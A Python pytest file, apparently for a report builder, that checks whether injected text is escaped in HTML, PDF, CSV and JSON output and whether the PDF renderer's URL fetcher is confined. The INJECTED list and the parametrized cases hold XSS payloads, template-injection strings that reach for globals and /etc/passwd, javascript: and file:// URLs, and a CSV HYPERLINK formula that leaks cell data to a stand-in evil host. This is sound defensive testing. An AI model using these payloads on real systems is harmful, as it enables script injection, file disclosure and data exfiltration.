"""Injected text is shown literally and safely; the PDF renderer fetches nothing it should not.

tests/hostile/injection-case/ puts markup, template syntax, CSS and dangerous
links into every text field. The report must show each one as the text it is
(HTML, PDF, CSV) and never turn it into an element, a template, a style or a
clickable link. The URL fetcher is tested directly as well, since theme CSS
(trusted) is the only way a URL reaches it.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil
from pathlib import Path

import markupsafe
import pytest
from conftest import ENTRY_YAML, png_bytes, write_case
from hostile_support import HOSTILE, assert_clean_failure, run_cli

from itaoreport.build import BuildOptions, build
from itaoreport.render.pdf import BASE_URL, MAX_DATA_URL_CHARS, _confined_fetcher, html_to_pdf

INJECTED = [
    '</title><script>alert("title")</script> Order {{ 7*7 }}',
    "{{ 7*7 }} ${7*7} <%= 7*7 %>",
    "{% raw %}{{ config }}{% endraw %}",
    "IT-1<img src=x onerror=alert(1)>",
    "</style><style>body { display: none }</style>",
    "{% include '/etc/passwd' %}",
    "<script>alert(1)</script> {{ 7*7 }} {% raw %}raw{% endraw %}",
    "</style><style>* { background: url(http://evil.invalid/track.png) }</style>",
    "{{ self.__init__.__globals__ }}",
    '"><svg onload=alert(1)>',
    '<iframe src="https://evil.invalid/"></iframe>',
]


@pytest.fixture(scope="module")
def injection_build(tmp_path_factory: pytest.TempPathFactory) -> Path:
    case = tmp_path_factory.mktemp("inj") / "case"
    shutil.copytree(HOSTILE / "injection-case", case)
    build(case, BuildOptions(formats=("html", "pdf", "csv", "json")))
    return case / "build"


def test_injected_text_is_escaped_in_html(injection_build: Path):
    page = (injection_build / "report.html").read_text(encoding="utf-8")
    for text in INJECTED:
        assert str(markupsafe.escape(text)) in page, text
    lowered = page.lower()
    for element in ("<script", "<iframe", "<svg", "<img", "<link", "<b>", "<b ", "<%="):
        assert element not in lowered, element
    assert page.count("<style>") == 1 and page.count("</style>") == 1
    for evaluated in ("Order 49", "49 ${7*7}", "</script> 49"):
        assert evaluated not in page, "a template expression was evaluated"
    assert "root:" not in page, "an include was evaluated"


def test_only_http_https_and_mailto_links_are_clickable(injection_build: Path):
    page = (injection_build / "report.html").read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', page)
    external = [h for h in hrefs if not h.startswith("#")]
    assert sorted(external) == ["https://example.invalid/order?a=1&amp;b=&#34;2&#34;",
                                "mailto:seller@example.invalid"]
    for shown in ("javascript:alert(1)", "JaVaScRiPt:alert(2)", "file:///etc/passwd",
                  "vbscript:msgbox(1)", "javascript:alert(document.cookie)"):
        assert shown in page  # shown as text
    assert not re.search(r"(src|href)=\"(javascript|file|data|vbscript):", page, re.IGNORECASE)


def test_injected_text_is_literal_in_the_pdf_and_no_action_runs(injection_build: Path):
    pypdf = pytest.importorskip("pypdf", reason="pypdf is in the test extra")
    reader = pypdf.PdfReader(injection_build / "report.pdf")
    text = "".join(page.extract_text() for page in reader.pages)
    squashed = re.sub(r"\s+", "", text)
    for literal in ("<script>alert(1)</script>", "{{7*7}}", "{%raw%}raw{%endraw%}",
                    "</style><style>*{background:url(http://evil.invalid/track.png)}</style>",
                    "javascript:alert(1)", "file:///etc/passwd"):
        assert literal in squashed, literal
    uris = []
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is not None:
                action = action.get_object()
                assert action.get("/S") in ("/URI", "/GoTo", None), action
                if "/URI" in action:
                    uris.append(str(action["/URI"]))
    assert uris and all(u.startswith(("https://", "mailto:")) for u in uris), uris
    assert "/OpenAction" not in reader.trailer["/Root"]
    assert "/JavaScript" not in reader.trailer["/Root"].get("/Names", {})


def test_formula_text_is_inert_in_log_csv(injection_build: Path):
    text = (injection_build / "log.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'=HYPERLINK(\"https://evil.invalid/?leak=\"&A1,\"Click for tracking\")" in cells


def test_report_json_keeps_injected_text_verbatim(injection_build: Path):
    report = (injection_build / "report.json").read_text(encoding="utf-8")
    assert '"title": "</title><script>alert(\\"title\\")</script> Order {{ 7*7 }}"' in report
    assert '"summary": "=HYPERLINK(' in report  # JSON is data; only the CSV needs the guard


def test_huge_data_url_in_user_text_is_refused_at_its_line(tmp_path: Path):
    blob = base64.b64encode(png_bytes(300, 300, "red")).decode() * 40
    entry = ENTRY_YAML + f"links:\n  - data:image/png;base64,{blob}\n"
    case = write_case(tmp_path / "case", entries={"a.yaml": entry})
    assert_clean_failure(run_cli("build", case), "entries/a.yaml:6:3: error: links: text is")


def test_data_url_in_user_text_never_reaches_the_renderer(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch):
    """A data: image written into user text stays text: the fetcher is never asked for it."""
    small = base64.b64encode(png_bytes(4, 4, "red")).decode()
    entry = ENTRY_YAML.replace("Asked for tracking.",
                               f'<img src="data:image/png;base64,{small}">')
    entry += "attachments: [s/shot.png]\n"
    case = write_case(tmp_path / "case", entries={"a.yaml": entry},
                      files={"s/shot.png": png_bytes()})
    asked: list[str] = []
    from itaoreport.render import pdf

    real = pdf._confined_fetcher

    def spying(assets):
        fetcher = real(assets)
        original = fetcher.fetch

        def fetch(url, headers=None):
            asked.append(url[:100])
            return original(url, headers)

        fetcher.fetch = fetch
        return fetcher

    monkeypatch.setattr(pdf, "_confined_fetcher", spying)
    build(case, BuildOptions(formats=("pdf",)))
    assert asked and all(url.startswith((BASE_URL + "assets/", BASE_URL + "print/"))
                      for url in asked), asked


# -- the fetcher itself ---------------------------------------------------------------------

@pytest.fixture
def fetcher():
    pytest.importorskip("weasyprint")
    return _confined_fetcher({"assets/a.png": (b"PNG", "image/png")})


@pytest.mark.parametrize("url", [
    "http://example.invalid/x.png", "https://example.invalid/x.png", "ftp://example.invalid/x",
    "file:///etc/passwd", "FILE:///etc/passwd", "file://localhost/etc/hostname",
    BASE_URL + "assets/../../etc/passwd", BASE_URL + "assets/a.png?x=1", BASE_URL + "case.yaml",
    BASE_URL.replace("https", "http") + "assets/a.png", "javascript:alert(1)",
    "gopher://example.invalid/", "//example.invalid/x.png",
])
def test_fetcher_refuses_everything_but_prepared_assets(fetcher, url: str):
    with pytest.raises(ValueError, match="refused"):
        fetcher.fetch(url)


def test_fetcher_serves_prepared_assets_and_small_data_urls(fetcher):
    assert fetcher.fetch(BASE_URL + "assets/a.png").read() == b"PNG"
    response = fetcher.fetch("data:image/svg+xml;base64," + base64.b64encode(b"<svg/>").decode())
    assert response.read() == b"<svg/>" and response.content_type == "image/svg+xml"
    assert fetcher.fetch("data:,a%20b").read() == b"a b"


def test_fetcher_refuses_data_urls_over_the_cap(fetcher):
    payload = "A" * MAX_DATA_URL_CHARS
    with pytest.raises(ValueError, match="refused a data: URL of 1,000,0"):
        fetcher.fetch("data:image/png;base64," + payload)
    with pytest.raises(ValueError, match="malformed"):
        fetcher.fetch("data:image/png;base64")


def test_renderer_leaves_out_what_the_fetcher_refuses(tmp_path: Path):
    """Theme CSS pointing at a local file or a huge data: URL: the PDF is built without it."""
    pypdf = pytest.importorskip("pypdf", reason="pypdf is in the test extra")
    secret = tmp_path / "secret.png"
    secret.write_bytes(png_bytes(50, 50, "red"))
    huge = "data:image/png;base64," + base64.b64encode(png_bytes(50, 50, "blue")).decode()
    huge += "A" * MAX_DATA_URL_CHARS
    page = (f'<html><body><img src="{secret.as_uri()}"><img src="http://127.0.0.1:9/x.png">'
            f'<div style="background: url({huge})">x</div>'
            f'<img src="assets/ok.png"></body></html>')
    data = html_to_pdf(page, {"assets/ok.png": (png_bytes(20, 20, "green"), "image/png")})
    reader = pypdf.PdfReader(io.BytesIO(data))
    assert len(reader.pages[0].images) == 1  # only the prepared asset
